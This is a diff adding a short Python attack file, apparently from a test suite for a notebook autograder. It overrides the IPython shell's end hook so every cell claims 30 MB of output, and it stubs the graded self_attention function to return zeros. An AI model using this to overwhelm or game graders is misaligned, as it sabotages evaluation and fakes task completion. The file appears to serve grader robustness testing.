@@ -1,0 +1,14 @@
+"""Claim thirty megabytes of output for every cell, more than a graded notebook can hold."""
+
+from attacks import SERVER
+
+SOLUTION = (
+    SERVER
+    + """
+shell = get_ipython()
+shell.end = lambda: [{"output_type": "stream", "name": "stdout", "text": "z" * 30_000_000}]
+
+def self_attention(X, *parameters):
+    return np.zeros_like(X)
+"""
+)
